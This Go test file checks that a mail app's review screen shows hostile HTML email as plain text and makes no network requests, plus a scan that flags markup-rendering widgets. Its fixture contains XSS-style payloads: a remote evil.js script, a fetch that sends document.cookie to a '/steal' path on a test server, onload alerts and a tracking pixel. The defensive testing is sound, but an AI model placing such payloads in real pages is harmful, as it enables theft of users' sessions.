package app

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/backroom-app/backroom/data"
)

// TestMail_ReviewShowsHTMLAsText: a mail in the review queue whose HTML carries a script, a remote
// image (a tracking pixel), a stylesheet, an iframe and a link is shown as its text only, and showing it
// reaches nothing on the network.
func TestMail_ReviewShowsHTMLAsText(t *testing.T) {
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) }))
	defer srv.Close()
	page := fmt.Sprintf(`<html><head><style>@import url(%[1]s/style.css); body{background:url(%[1]s/bg.png)}</style>
<script src="%[1]s/evil.js"></script><script>fetch("%[1]s/steal?c="+document.cookie); alert("pwned")</script></head>
<body onload="alert('onload')"><p>Order 7781 from Mia</p>
<img src="%[1]s/pixel.png" width="1" height="1"><iframe src="%[1]s/frame.html"></iframe>
<table><tr><td>2 x Blue mug</td><td>£24.00</td></tr></table>
<p><a href="%[1]s/click">Track the parcel</a></p><object data="%[1]s/obj.swf"></object>
<svg><image href="%[1]s/svg.png"/></svg></body></html>`, srv.URL)
	raw := "From: shop@example.com\r\nSubject: Order 7781\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
		strings.ReplaceAll(page, "\n", "\r\n")

	ctx := context.Background()
	a := newTestApp(t)
	holdUI(t, a)
	m := data.MailMessage{MessageID: "html-7781@example.com", Subject: "Order 7781", From: "shop@example.com",
		Kind: data.MailUnknownOrder, Problems: []data.Problem{{Reason: "no parser knows this layout"}}, Raw: []byte(raw)}
	if _, err := a.store.ApplyMail(ctx, data.MailBatch{Messages: []data.MailMessage{m}}); err != nil {
		t.Fatal(err)
	}
	sc := showScreen[*mailScreen](t, a, sectionMail)
	if len(sc.review.rows) != 1 {
		t.Fatalf("review rows = %d", len(sc.review.rows))
	}
	sc.showReview(sc.review.rows[0])
	waitUI(a)
	text := sc.reviewText.Text
	for _, want := range []string{"Order 7781 from Mia", "2 x Blue mug", "Track the parcel"} {
		if !strings.Contains(text, want) {
			t.Errorf("the review shows %q, without %q", text, want)
		}
	}
	for _, bad := range []string{"<", "alert", "pwned", "fetch", "cookie", "onload", "@import", "background", srv.URL, "pixel", "evil.js"} {
		if strings.Contains(text, bad) {
			t.Errorf("the review shows %q, with %q", text, bad)
		}
	}
	time.Sleep(200 * time.Millisecond) // anything fetched in the background would have arrived by now
	if n := hits.Load(); n != 0 {
		t.Errorf("showing the mail made %d requests to the mail's server", n)
	}
}

// TestApp_NoRenderedMarkup guards the promise above for every screen: no widget that renders markup
// (Markdown, which Fyne turns into links and images it loads from their URLs) or loads an image from a
// URL is used anywhere in the app, so text from mails and spreadsheets is only ever shown as text.
func TestApp_NoRenderedMarkup(t *testing.T) {
	risky := regexp.MustCompile(`NewRichTextFromMarkdown|ParseMarkdown|AppendMarkdown|ImageSegment|NewImageFromURI|NewImageFromURL|LoadResourceFromURLString`)
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	sub, _ := filepath.Glob("*/*.go")
	for _, f := range append(files, sub...) {
		if strings.HasSuffix(f, "_test.go") {
			continue
		}
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range risky.FindAll(b, -1) {
			t.Errorf("%s uses %s: text from outside must be shown as plain text (widget.Label, TextSegment)", f, m)
		}
	}
}
